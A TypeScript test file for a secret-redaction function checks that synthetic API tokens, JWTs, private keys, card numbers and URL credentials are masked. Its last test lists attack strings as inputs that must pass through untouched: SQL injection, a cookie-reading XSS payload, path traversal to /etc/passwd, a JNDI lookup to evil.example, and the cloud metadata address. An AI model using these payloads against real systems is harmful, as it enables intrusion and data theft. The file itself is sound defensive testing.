import { describe, expect, it } from 'vitest';
import { secretValues } from './secret-values.js';
import { replaceSpans } from './span.js';

function redacted(text: string): string {
  return replaceSpans(text, secretValues(text), '#');
}

/** Written so that no scanner takes this file for a leak. */
function token(prefix: string, length: number, letters = 'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7'): string {
  return prefix + letters.repeat(Math.ceil(length / letters.length)).slice(0, length);
}

const HEX = '0a1b2c3d4e5f6789';
const TOKENS = [
  token('AKIA', 16, 'ABCDEFGH23456789'),
  token('ASIA', 16, 'ABCDEFGH23456789'),
  token('ghp_', 36),
  token('gho_', 36),
  token('github_pat_', 60),
  token('glpat-', 20),
  token('xoxb-1234567890-', 24),
  token('xoxp-', 40),
  token('sk_live_', 24),
  token('rk_test_', 24),
  token('AIza', 35),
  token('ya29.', 60),
  token('npm_', 36),
  token('pypi-AgEIcHlwaS5vcmc', 60),
  token('sk-ant-', 60),
  token('sk-proj-', 60),
  token('hf_', 34),
  token('SG.', 22) + token('.', 43),
  token('shpat_', 32, HEX),
  token('dop_v1_', 64, HEX),
  token('key-', 32, HEX),
  token('123456789:', 35),
  token('hvs.', 40),
  token('whsec_', 32),
  'hooks.slack.com/services/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',
];
/** Each kind at its least length, made of what it may be made of and has the fewest letters. */
const SHORTEST: readonly (readonly [prefix: string, length: number, letters?: string])[] = [
  ['AKIA', 16, 'A2'],
  ['ghp_', 20],
  ['github_pat_', 20],
  ['glft-', 16, '-a'],
  ['ATATT3x', 20, '=-'],
  ['ATCTT3x', 20, '='],
  ['ATBB', 20, '=-'],
  ['xoxb-', 10, '-'],
  ['xoxe.xoxp-', 10],
  ['xapp-', 10, '-'],
  ['hooks.slack.com/services/', 16, '/'],
  ['discord.com/api/webhooks/', 16, '/-'],
  ['discordapp.com/api/webhooks/', 16, '/'],
  ['AIza', 30, '-'],
  ['ya29.', 20, '.'],
  ['GOCSPX-', 20, '-'],
  ['sk_live_', 10],
  ['whsec_', 16, '+=/'],
  ['sq0atp-', 20, '-'],
  ['shpat_', 20],
  ['dop_v1_', 32, HEX],
  ['pypi-AgE', 20, '-'],
  ['dckr_pat_', 20, '-'],
  ['rubygems_', 20, HEX],
  ['lin_api_', 20],
  ['figd_', 20, '-'],
  ['glsa_', 20, '-'],
  ['glc_', 20, '='],
  ['pscale_pw_', 20, '.='],
  ['sntrys_', 20, '=+/'],
  ['PMAK-', 20, '-'],
  ['NRAK-', 20, 'A2'],
  ['dapi', 32, HEX],
  ['AGE-SECRET-KEY-1', 20, 'A2'],
  ['hvs.', 20, '-'],
  [token('SG.', 16, '-').concat('.'), 16, '-'],
  ['sk-', 20, '-'],
  ['npm_', 20],
  ['hf_', 20],
  ['key-', 32, HEX],
  ['SK', 32, HEX],
  ['ntn_', 32],
  ['secret_', 32],
  ['sbp_', 32, HEX],
  ['12345678:', 35, '-'],
];
const JWT = [{ alg: 'HS256', typ: 'JWT' }, { sub: '1' }].map((part) =>
  Buffer.from(JSON.stringify(part)).toString('base64url'),
);
const SIGNED = [...JWT, token('', 43)].join('.');
const CARDS = ['4111111111111111', '5500 0000 0000 0004', '3782-822463-10005', '6011.1111.1111.1117', '4222222222222'];

describe('secretValues', () => {
  it('finds the tokens that issuers mark, and nothing around them', () => {
    for (const secret of TOKENS) expect(redacted(`say ${secret}, then`)).toBe('say #, then');
    for (const secret of TOKENS) expect(redacted(`{"a":"${secret}"}`)).toBe('{"a":"#"}');
  });

  it('finds the shortest of each kind, wherever it stands, and no shorter one', () => {
    for (const [prefix, length, letters] of SHORTEST) {
      const secret = token(prefix, length, letters);
      expect(redacted(secret)).toBe('#');
      expect(redacted(`say ${secret}`)).toBe('say #');
      expect(redacted(`${secret} is it`)).toBe('# is it');
      const shorter = token(prefix, length - 1, letters);
      expect(redacted(`say ${shorter}`)).toBe(`say ${shorter}`);
    }
  });

  it('finds the shortest of the other kinds, wherever they stand, and no shorter ones', () => {
    const shortest: readonly (readonly [found: string, shown: string, missed: string])[] = [
      ['eyJaaaaaaaaaaaa.', '#', 'eyJaaaaaaaaaaa.'],
      ['bearer abcdefg1', 'bearer #', 'bearer abcdef1'],
      ['Token=abcdefg1', 'Token=#', 'Token=abcdef1'],
      ['NEGOTIATE: abcdefg1', 'NEGOTIATE: #', 'NEGOTIATE: abcdef1'],
      ['BASIC dTpwdw==', 'BASIC #', 'BASIC dTpwd'],
      ['-----BEGIN KEY-----', '#', '----BEGIN KEY-----'],
      ['4222222222222', '#', '422222222222'],
      ['4222 2222 2222 2', '#', '4222 2222 2222'],
      ['//a:b@', '//#@', '//ab@'],
    ];
    for (const [found, shown, missed] of shortest) {
      expect(redacted(found)).toBe(shown);
      expect(redacted(`say, ${found}`)).toBe(`say, ${shown}`);
      // A PEM key that is cut goes on to the end.
      if (!found.startsWith('-')) expect(redacted(`${found}, say`)).toBe(`${shown}, say`);
      expect(redacted(`say, ${missed}, say`)).toBe(`say, ${missed}, say`);
    }
  });

  it('finds JSON Web Tokens: signed, unsigned, encrypted, glued to something', () => {
    expect(redacted(`x ${SIGNED} y`)).toBe('x # y');
    expect(redacted(`(${JWT.join('.')}.)`)).toBe('(#)');
    expect(redacted(`${SIGNED}.aa.bb'--`)).toBe("#'--");
    expect(redacted(`_${SIGNED}`)).toBe('_#');
  });

  it('finds what follows an authentication scheme', () => {
    expect(redacted('Authorization: Bearer abc123def456 ok')).toBe('Authorization: Bearer # ok');
    expect(redacted('bearer+mF_9.B5f-4.1JqM')).toBe('bearer+#');
    expect(redacted(`Basic ${Buffer.from('user:open sesame').toString('base64')}`)).toBe('Basic #');
  });

  it('finds private keys, whole and cut', () => {
    const key = `-----BEGIN RSA PRIVATE KEY-----\n${token('MII', 64)}\n-----END RSA PRIVATE KEY-----`;
    expect(redacted(`a ${key} b`)).toBe('a # b');
    expect(redacted(`a ${key.slice(0, 60)}`)).toBe('a #');
    expect(redacted(`a ${key.replaceAll(' ', '+')} b`)).toBe('a # b');
  });

  it('finds card numbers in the groups that people write', () => {
    for (const card of CARDS) expect(redacted(`pay ${card} 12/27`)).toBe('pay # 12/27');
    expect(redacted('4111+1111+1111+1111')).toBe('#');
  });

  it('finds credentials in URLs', () => {
    expect(redacted('https://user:hunter2@host/a')).toBe('https://#@host/a');
    expect(redacted('postgres://me:p@ss@db:5432/x')).toBe('postgres://#@db:5432/x');
    expect(redacted('git clone https://abcdef@forge.example/x')).toBe('git clone https://#@forge.example/x');
    expect(redacted('//user:hunter2@host')).toBe('//#@host');
    expect(redacted('"https:\\/\\/user:hunter2@host\\/"')).toBe('"https:\\/\\/#@host\\/"');
  });

  it('leaves everything else readable', () => {
    for (const text of [
      "1' OR 1=1-- -",
      '<script>alert(document.cookie)</script>',
      '../../../../etc/passwd',
      'SELECT * FROM users WHERE id = 1234567890123456',
      `$\{jndi:ldap://evil.example/a}`,
      'http://169.254.169.254/latest/meta-data/',
      'mailto:someone@example.com',
      'https://example.com/@user/post',
      '// a: comment about b@c',
      'the bearer of good news, basic information, token ring',
      'Bearer certificates',
      'ask-me-anything-about-risk-and-task-management',
      'order 2024-01-15 4111 1111 1111 1112',
      '52.51627837465123, 13.37777777777777',
      '1700000000000',
      'd9b2d63d-a233-4123-847a-7090b0b1d2e4',
      'eyJ is how it begins',
      'eyJhbGciOiJIUzI1NiJ9',
      '-----BEGIN CERTIFICATE-----',
      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
    ]) {
      expect(redacted(text)).toBe(text);
    }
  });
});
